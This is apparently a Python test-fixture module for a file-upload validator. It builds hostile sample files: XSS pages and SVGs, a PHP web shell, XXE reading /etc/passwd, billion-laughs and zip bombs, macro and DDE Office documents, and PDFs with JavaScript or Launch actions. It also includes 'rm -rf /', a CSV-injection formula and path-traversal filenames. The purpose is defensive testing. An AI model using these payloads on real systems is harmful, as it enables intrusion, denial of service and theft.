"""Files made to harm whoever takes them in or opens them; each is small, and made here."""

import io
import struct
import zipfile
import zlib
from typing import NamedTuple

from PIL import Image
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject

from tests.sources.samples import MAIL, OF_EACH_KIND, PDF, PNG, office_open, open_document, packed, pdf

#: What stands in every file that is taken in, and in no copy that is served.
ATTACK = b"attack-by-zoo"
HTML = b"<!DOCTYPE html><script>alert('" + ATTACK + b"')</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>'
PROGRAM = b"MZ\x90\x00" + bytes(60)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PHP = b"<?php system($_GET['" + ATTACK + b"']); ?>"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><x>&j;</x>"
)
FETCHING = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
MAIN = "word/document.xml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ADDRESS = f"http://192.0.2.1/{ATTACK.decode()}"


class Beast(NamedTuple):
    """A file as it is sent: the name it gives itself, and what it holds."""

    name: str
    content: bytes


def document(**more):
    return Beast("letter.docx", office_open(MAIN, **more))


def relating(kind, target, mode="External"):
    """Return a document that is related to something elsewhere."""
    relation = f'<Relationship Id="x" Type="{TYPES}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return document(**{"word/_rels/document.xml.rels": f"<Relationships {R}>{relation}</Relationships>"})


def acting(**action):
    """Return a PDF that does something when it is opened."""

    def arm(writer, page):
        values = {NameObject(f"/{name}"): value for name, value in action.items()}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(values)

    return Beast("act.pdf", pdf(arm))


def attached():
    def attach(writer, page):
        writer.add_attachment("invoice.exe", PROGRAM + ATTACK)

    return Beast("attached.pdf", pdf(attach))


def stream_bomb(*names):
    """Return a PDF with a picture that unpacks to a gigabyte."""
    filters = ArrayObject(map(NameObject, names))

    def arm(writer, page):
        packer = zlib.compressobj(9)
        million = bytes(1024 * 1024)
        stream = StreamObject()
        stream._data = b"".join(packer.compress(million) for _ in range(1024)) + packer.flush()
        stream.update({NameObject("/Subtype"): NameObject("/Image"), NameObject("/Filter"): filters})
        pictures = DictionaryObject({NameObject("/P"): writer._add_object(stream)})
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"): pictures})

    return Beast("stream.pdf", pdf(arm))


def circle():
    """Return a PDF whose pages are their own parents and children."""

    def arm(writer, page):
        pages = writer.root_object["/Pages"]
        pages["/Kids"].append(pages.indirect_reference)

    return Beast("circle.pdf", pdf(arm))


def nested_pdf():
    return Beast("deep.pdf", PDF.replace(b"/MediaBox [", b"/X " + b"[" * 50_000 + b"/MediaBox [", 1))


def many_objects(count=50_000):
    body = b"".join(b"%d 0 obj <</A %d 0 R>> endobj\n" % (n, n + 1) for n in range(1, count))
    return Beast("many.pdf", b"%PDF-1.7\n" + body + b"trailer <</Root 1 0 R>>\nstartxref\n9999999\n%%EOF")


def png(width, height, *, colour=2, extra=b""):
    """Return a PNG that says that it is of this size, and is of a few bytes."""

    def chunk(name, content):
        return (
            struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    data = zlib.compress(bytes(1024 * 1024), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + extra + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def moving(kind, frames=400):
    target = io.BytesIO()
    pictures = [Image.new("RGB", (8, 8), (n % 256, n // 256, 0)) for n in range(frames)]
    pictures[0].save(target, kind, save_all=True, append_images=pictures[1:])
    return target.getvalue()


def single(kind, **options):
    target = io.BytesIO()
    Image.new("RGB", (8, 8)).save(target, kind, **options)
    return target.getvalue()


def lying(content, member, size):
    """Return the archive with another size of the member wherever it is said."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        true = archive.getinfo(member).file_size
    return content.replace(struct.pack("<I", true), struct.pack("<I", size))


def overlapping(members=200):
    """Return a document whose members all unpack the same bytes."""
    whole = document(**{"word/a.bin": bytes(range(256)) * 2000}).content
    end = whole.rindex(b"PK\x05\x06")
    begins = struct.unpack_from("<I", whole, end + 16)[0]
    directory = whole[begins:end]
    at = directory.index(b"word/a.bin") - 46
    entry = bytearray(directory[at : at + 56])
    copies = b""
    for number in range(members):
        entry[46:56] = b"word/%05d" % number
        copies += entry
    directory += copies
    count = struct.unpack_from("<H", whole, end + 10)[0] + members
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(directory), begins, 0)
    return whole[:begins] + directory + tail


def crowded(members):
    """Return a document with so many empty members."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as target:
        for name, content in {"[Content_Types].xml": "<Types/>", MAIN: "<x/>"}.items():
            target.writestr(name, content)
        for number in range(members):
            target.writestr(zipfile.ZipInfo(f"word/{number}"), b"")
    return archive.getvalue()


def directory_bomb():
    """Return a document that ends in a list of two million members, all of them alike."""
    whole = document().content
    end = whole.rindex(b"PK\x05\x06")
    begins = struct.unpack_from("<I", whole, end + 16)[0]
    directory = whole[begins:end] + whole[begins : begins + 46 + 19] * 200_000
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 65535, 65535, len(directory), begins, 0)
    return whole[:begins] + directory + tail


def packed_by(method):
    archive = io.BytesIO(document().content)
    with zipfile.ZipFile(archive, "a", method) as target:
        target.writestr("word/a.xml", "<x/>")
    return archive.getvalue()


def ods(**more):
    return Beast("table.ods", open_document("spreadsheet", **more))


def tags(count):
    return b"ID3\x04\x00\x00\x00\x00\x00\x00" * count


_FIELD = "<w:r><w:instrText>DDEAU</w:instrText></w:r><w:r><w:instrText>TO c:\\\\cmd</w:instrText></w:r>"

#: What is not taken in, by what it is.
REFUSED = {
    "a PDF that is an archive": Beast("a.pdf", PDF + packed({"a.exe": PROGRAM})),
    "a picture that is an archive": Beast("a.png", PNG + packed({"a.exe": PROGRAM})),
    "a text that is an archive": Beast("a.txt", b"Notes.\n" + packed({"a.exe": PROGRAM})),
    "a GIF that is a script": Beast("a.png", b"GIF89a=1;alert(1)//"),
    "a GIF as a photograph": Beast("a.jpg", moving("GIF")),
    "a GIF": Beast("a.gif", moving("GIF", 2)),
    "a TIFF": Beast("a.tiff", single("TIFF")),
    "a TIFF of a million pixels a side": Beast("a.tif", b"II*\x00" + bytes(100)),
    "a drawing": Beast("a.svg", SVG),
    "a drawing as a picture": Beast("a.png", SVG),
    "a drawing as a text": Beast("a.txt", SVG),
    "a drawing as a text with a mark before it": Beast("a.txt", b"\xef\xbb\xbf \n" + SVG),
    "a drawing in two bytes each": Beast("a.txt", SVG.decode().encode("utf-16")),
    "a drawing as a PDF": Beast("a.pdf", b"%!" + SVG),
    "a packed drawing": Beast("a.svgz", zlib.compress(SVG)),
    "a page": Beast("a.html", HTML),
    "a page as a text": Beast("a.txt", HTML),
    "a page as a PDF": Beast("a.pdf", HTML),
    "a page as a picture": Beast("a.png", HTML),
    "a page as a document": Beast("a.docx", HTML),
    "a page as a letter": Beast("a.eml", HTML),
    "a piece of a page as a text": Beast("a.txt", b"hello <img src=x onerror=alert(1)>"),
    "a script of a server as a text": Beast("a.txt", PHP),
    "a program": Beast("a.exe", PROGRAM),
    "a program as a PDF": Beast("a.pdf", PROGRAM),
    "a program as a text": Beast("a.txt", PROGRAM),
    "a program far down in a text": Beast("a.txt", b"Notes. " * 10_000 + PROGRAM),
    "a text with a program's ending": Beast("a.pdf.exe", PDF),
    "a script": Beast("a.js", b"alert(1)"),
    "a shortcut": Beast("a.pdf.lnk", PDF),
    "a stream of a Windows file": Beast("a.pdf::$DATA", PDF),
    "an ending with a point after it": Beast("a.pdf.", PDF),
    "an ending in another script": Beast("a.pdf\u0430", PDF),
    "an ending before nothing": Beast("a.exe\x00", PROGRAM),
    "no ending": Beast("letter", PDF),
    "no name": Beast("", PDF),
    "a name of five thousand letters": Beast("a" * 5000, PDF),
    "an ending of five thousand letters": Beast("a." + "b" * 5000, PDF),
    "a name that is a folder": Beast("../", PDF),
    "nothing": Beast("a.pdf", b""),
    "an archive": Beast("a.zip", packed({"a.txt": "x"})),
    "an archive as a document": Beast("a.docx", packed({"a.txt": "x"})),
    "a document that is cut short": Beast("a.docx", OF_EACH_KIND["docx"][:-40]),
    "an old document, which may have macros": Beast(
        "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
    ),
    "an old document under a new name": Beast("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)),
    "a text with formats, which may hold objects": Beast("a.txt", rb"{\rtf1\object\objdata 0105}"),
    "a document with a program before it": Beast("a.docx", PROGRAM + ATTACK + OF_EACH_KIND["docx"]),
    "a document with macros": Beast("a.docm", document(**{"word/vbaProject.bin": "x"}).content),
    "a document with macros under another name": document(**{"word/vbaProject.bin": "x"}),
    "macros by another case": document(**{"word/VBAPROJECT.BIN": "x"}),
    "macros of a table": Beast(
        "a.xlsx", office_open("xl/workbook.xml", **{"xl/macrosheets/sheet1.xml": "<x/>"})
    ),
    "an object that is a program": document(**{"word/embeddings/oleObject1.bin": PROGRAM}),
    "a control": document(**{"word/activeX/activeX1.xml": "<x/>"}),
    "a program inside a document": document(**{"word/media/picture.exe": PROGRAM}),
    "macros inside a document inside a document": document(
        **{"word/embeddings/table.xlsx": packed({"xl/vbaProject.bin": "x"})}
    ),
    "macros of an open document": ods(**{"Basic/Standard/Module1.xml": "<x/>"}),
    "scripts of an open document": ods(**{"Scripts/python/a.py": "import os"}),
    "what starts when an open document is opened": ods(
        **{"styles.xml": '<x xmlns:script="urn:s"><script:event-listener/></x>'}
    ),
    "an exchange with another program": Beast(
        "a.xlsx",
        office_open("xl/workbook.xml", **{"xl/externalLinks/a.xml": '<x><ddeLink ddeService="cmd"/></x>'}),
    ),
    "a field that starts a program": document(**{"word/footer1.xml": f"<w:p {W}>{_FIELD}</w:p>"}),
    "words that multiply": document(**{"word/a.xml": LAUGHS}),
    "words that multiply in a list": document(**{"word/_rels/document.xml.rels": LAUGHS}),
    "words that multiply in the main list": document(**{"_rels/.rels": LAUGHS}),
    "words that are kept elsewhere": document(
        **{"word/a.xml": '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd"><x/>'}
    ),
    "words that are fetched": document(**{"word/a.xml": FETCHING}),
    "a part outside": document(**{"../../evil.xml": "<x/>"}),
    "a part on another drive": document(**{"C:\\evil.xml": "<x/>"}),
    "two parts alike but for their case": document(**{"WORD/DOCUMENT.XML": "<x/>"}),
    "a bomb": document(**{"word/a.xml": bytes(50_000_000)}),
    "a bomb of many parts": document(**{f"word/{n}.xml": bytes(1_000_000) for n in range(60)}),
    "a bomb that overlaps itself": Beast("a.docx", overlapping()),
    "a bomb that says that it is small": Beast(
        "a.docx", lying(document(**{"word/a.bin": bytes(3_456_789)}).content, "word/a.bin", 77)
    ),
    "a bomb inside a document": document(**{"word/embeddings/a.xlsx": packed({"a": bytes(20_000_000)})}),
    "archives inside each other": document(
        **{"word/a.docx": packed({"b.docx": packed({"c.docx": packed({"d": "x"})})})}
    ),
    "too many parts": Beast("a.docx", crowded(10_001)),
    "a list of parts without end": Beast("a.docx", directory_bomb()),
    "parts packed as no office packs": Beast("a.docx", packed_by(zipfile.ZIP_LZMA)),
    "pixels without number": Beast("a.png", png(60_000, 60_000)),
    "the most pixels there can be": Beast("a.png", png(2**31 - 1, 2**31 - 1)),
    "a line of pixels": Beast("a.png", png(2**31 - 1, 1)),
    "a picture of too many pixels inside a document": document(**{"word/media/a.png": png(60_000, 60_000)}),
}

#: What is taken in, as evidence or for its words, and of which no attack is served.
HARMLESS = {
    "a photograph with a page behind it": Beast("a.jpg", OF_EACH_KIND["jpg"] + HTML),
    "a photograph with a script of a server in it": Beast("a.jpg", single("JPEG", comment=PHP)),
    "a photograph with a page in its description": Beast("a.jpg", single("JPEG", exif=b"Exif\0\0" + HTML)),
    "a picture with a page behind it": Beast("a.png", PNG + HTML),
    "a picture with a page before its end": Beast(
        "a.png", png(600, 500, extra=b"\0\0\0\x0dtEXt" + ATTACK + bytes(4))
    ),
    "a picture with frames without number": Beast("a.png", moving("PNG") + ATTACK),
    "a moving picture": Beast("a.webp", moving("WEBP") + ATTACK),
    "a PDF with a page behind it": Beast("a.pdf", PDF + HTML),
    "a PDF that is cut short": Beast("a.pdf", PDF[:200] + ATTACK),
    "a PDF that runs a script": acting(S=NameObject("/JavaScript"), JS=TextStringObject(ATTACK.decode())),
    "a PDF that starts a program": acting(S=NameObject("/Launch"), F=TextStringObject(ATTACK.decode())),
    "a PDF that sends a form": acting(S=NameObject("/SubmitForm"), F=TextStringObject(ADDRESS)),
    "a PDF that opens an address by itself": acting(S=NameObject("/URI"), URI=TextStringObject(ADDRESS)),
    "a PDF with a program attached": attached(),
    "a PDF that unpacks without end": stream_bomb("/FlateDecode", "/DCTDecode"),
    "a PDF that is its own page": circle(),
    "a PDF of brackets": nested_pdf(),
    "a PDF of fifty thousand objects": many_objects(),
    "a picture that is fetched": relating("image", ADDRESS),
    "an object that is fetched": relating("oleObject", ADDRESS),
    "a frame that is fetched": relating("frame", ADDRESS),
    "a template that is fetched": relating("attachedTemplate", ADDRESS),
    "a link to a shared folder": relating("hyperlink", f"file://192.0.2.1/{ATTACK.decode()}"),
    "a picture that a field fetches": document(
        **{"word/a.xml": f'<w:p {W}><w:instrText>INCLUDEPICTURE "a"</w:instrText></w:p>'}
    ),
    "a picture that an open document fetches": ods(
        **{"styles.xml": f'<x xmlns:l="u" xmlns:d="v"><d:image d:a="&gt;>" l:href="{ADDRESS}"/></x>'}
    ),
    "a picture whose address is spelt in numbers": ods(
        **{"styles.xml": f'<x xmlns:a="u"><i a:href="a" href="&#104;ttp&#58;//{ATTACK.decode()}"/></x>'}
    ),
    "a document in two bytes each": document(**{"word/a.xml": f"<x>{LAUGHS}</x>".encode("utf-16")}),
    "a document with a part that is cut short": document(**{"word/a.xml": f"<x>{ATTACK.decode()}"}),
    "tags without end": Beast("a.mp3", tags(200_000) + OF_EACH_KIND["mp3"] + ATTACK),
    "chunks without end": Beast("a.wav", b"RIFF\0\0\0\0WAVE" + b"junk\0\0\0\0" * 200_000 + ATTACK),
    "boxes without end": Beast("a.mp4", OF_EACH_KIND["mp4"] + b"\0\0\0\x08free" * 200_000),
    "a PDF of half a million objects": many_objects(500_000),
    "boxes inside each other": Beast(
        "a.mp4",
        OF_EACH_KIND["mp4"][:20]
        + b"".join(struct.pack(">I4s", 8 * n, b"moov") for n in range(50_000, 0, -1)),
    ),
    "marks of a photograph without end": document(
        **{"word/a.jpg": b"\xff\xd8\xff\xda\0\2" + b"\xff" * 80_000 + bytes(9)}
    ),
}

#: What is no attack on anybody who keeps it: text is kept as it is, and never shown.
AS_IT_IS = {
    "the test of virus scanners": Beast("a.txt", EICAR),
    "a script of a shell": Beast("a.txt", b"#!/bin/sh\nrm -rf /\n"),
    "a formula": Beast("a.txt", b"=cmd|' /C calc'!A0"),
    "a letter with a page in it": Beast("a.eml", MAIL),
}

#: Names that lead elsewhere or deceive, and what is kept of each.
NAMES = {
    "../../x.pdf": "x.pdf",
    "..\\..\\x.pdf": "x.pdf",
    "/etc/cron.d/x.pdf": "x.pdf",
    "C:\\Windows\\x.pdf": "x.pdf",
    "\\\\server\\share\\x.pdf": "x.pdf",
    "x\x00.exe.pdf": "x.exe.pdf",
    "x\r\nSet-Cookie: a=b.pdf": "xSet-Cookie: a=b.pdf",
    "fdp\u202exe.pdf": "fdpxe.pdf",
    "\u2066x\u2069\u200b.pdf": "x.pdf",
    "x" * 5000 + ".pdf": "x" * 196 + ".pdf",
    "CON.pdf": "_CON.pdf",
    "aux.txt.pdf": "_aux.txt.pdf",
    "LPT1 .pdf": "_LPT1 .pdf",
    "x.pdf   ": "x.pdf",
    "x.exe.pdf": "x.exe.pdf",
    'x".pdf': 'x".pdf',
    "x;filename=y.exe.pdf": "x;filename=y.exe.pdf",
    ".pdf": ".pdf",
    "..pdf": "..pdf",
    "-rf.pdf": "-rf.pdf",
    "=cmd|x.pdf": "=cmd|x.pdf",
}
